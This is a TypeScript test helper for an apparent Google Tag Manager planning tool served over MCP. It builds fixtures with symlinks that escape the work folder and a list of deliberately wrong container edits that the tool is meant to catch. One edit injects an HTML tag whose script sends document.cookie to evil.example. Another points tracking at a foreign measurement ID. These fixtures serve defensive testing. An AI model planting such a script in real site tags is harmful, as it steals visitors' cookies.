import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, expect } from 'vitest'
import { called, emptyFolder, installed } from './artefact.ts'
import { type McpClient, overStdio } from './mcpClient.mjs'

export const goals = 'Track purchases and newsletter sign-ups'
/** The container that every test begins with. */
export const at = 'tracking/container.json'

/** The installed command with a client over a folder of the calling file's own, in which a plan was made, and links that lead out of it. */
export function toolsOverFiles() {
  const home = emptyFolder()
  const folder = join(home, 'work')
  const command = join(home, 'node_modules/tagmason/bin/tagmason.mjs')
  let client: McpClient
  let original = ''
  const tasks = tasksOf(() => client, folder)
  beforeAll(async () => {
    await installed('apps/cli', home)
    mkdirSync(folder)
    await called(process.execPath, [command, 'plan', '--goals', goals, '--measurement-id', 'G-AB12CD34EF', '--out', 'tracking'], folder)
    original = tasks.read(at)
    writeFileSync(join(home, 'outside.json'), original)
    symlinkSync(join(home, 'outside.json'), join(folder, 'link.json'))
    symlinkSync(home, join(folder, 'up'), 'junction')
    client = await overStdio([command, 'mcp', '--folder', folder], home)
  })
  beforeEach(() => writeFileSync(join(folder, at), original))
  afterAll(() => client.close())
  return { home, folder, command, client: () => client, original: () => original, ...tasks }
}

/** Tasks as an assistant does them, by the SDK's client. */
export const tasksOf = (client: () => McpClient, folder: string) => {
  const ask = async (name: string, args: object): Promise<{ text: string; isError: boolean }> => {
    const { content, isError } = await client().callTool({ name, arguments: args })
    return { text: content.map(({ text }) => text).join(''), isError: isError === true }
  }
  /** The answer of a call that has to work. */
  const call = async (name: string, args: object): Promise<string> => {
    const { text, isError } = await ask(name, args)
    expect([text, isError]).toEqual([text, false])
    return text
  }
  /** The sentence of a call that has to be refused. */
  const refused = async (name: string, args: object): Promise<string> => {
    const { text, isError } = await ask(name, args)
    expect([text, isError]).toEqual([text, true])
    return text
  }
  return {
    call,
    refused,
    /** The draft and the proof that an answer names. */
    kept: (answer: string) => ({ from: /^Drafts?: (\S+?)[,:]?(?:\s|$)/m.exec(answer)?.[1] ?? '', proof: /^Proof: (\S+)$/m.exec(answer)?.[1] ?? '' }),
    read: (path: string) => readFileSync(join(folder, path), 'utf8'),
  }
}

type Part = Record<string, unknown> & { name: string }

/** JSON pointers to the tags and triggers of a container by name. */
export function pointersOf(container: string) {
  const { containerVersion } = JSON.parse(container) as { containerVersion: { tag: Part[]; trigger: Part[]; variable: Part[] } }
  const at = (list: 'tag' | 'trigger' | 'variable') => (name: string) => {
    const place = containerVersion[list].findIndex((one) => one.name === name)
    if (place < 0) throw new Error(`The container has no ${list} '${name}'.`)
    return { pointer: `/containerVersion/${list}/${place}`, value: containerVersion[list][place] as Part }
  }
  return { tag: at('tag'), trigger: at('trigger'), variable: at('variable') }
}

/** Wrong edits, each as JSON Patch on the container. */
export const planted: readonly [string, (parts: ReturnType<typeof pointersOf>) => object[]][] = [
  ['pauses a tag', ({ tag }) => [{ op: 'add', path: `${tag('GA4 - purchase').pointer}/paused`, value: true }]],
  ['removes a tag', ({ tag }) => [{ op: 'remove', path: tag('GA4 - newsletter_sign_up').pointer }]],
  ['takes the trigger of a tag away', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/firingTriggerId`, value: [] }]],
  [
    'misspells the event of a trigger',
    ({ trigger }) => [{ op: 'replace', path: `${trigger('CE - purchase').pointer}/customEventFilter/0/parameter/1/value`, value: 'purchased' }],
  ],
  ['sends twice', ({ tag }) => [{ op: 'add', path: '/containerVersion/tag/-', value: { ...tag('GA4 - purchase').value, tagId: '900', name: 'Copy' } }]],
  [
    'sends to another property',
    ({ variable }) => [{ op: 'replace', path: `${variable('Const - GA4 Measurement ID').pointer}/parameter/0/value`, value: 'G-EVIL00EVIL' }],
  ],
  ['takes the default of consent away', ({ tag }) => [{ op: 'add', path: `${tag('Consent - Default denied').pointer}/paused`, value: true }]],
  [
    'brings code of its own',
    () => [
      {
        op: 'add',
        path: '/containerVersion/tag/-',
        value: {
          accountId: '0',
          containerId: '0',
          tagId: '901',
          name: 'Html',
          type: 'html',
          parameter: [{ type: 'TEMPLATE', key: 'html', value: "<script>fetch('https://evil.example/?' + document.cookie)</script>" }],
          firingTriggerId: ['2147479553'],
        },
      },
    ],
  ],
  ['does not import', ({ tag }) => [{ op: 'replace', path: `${tag('GA4 - purchase').pointer}/type`, value: 7 }]],
]
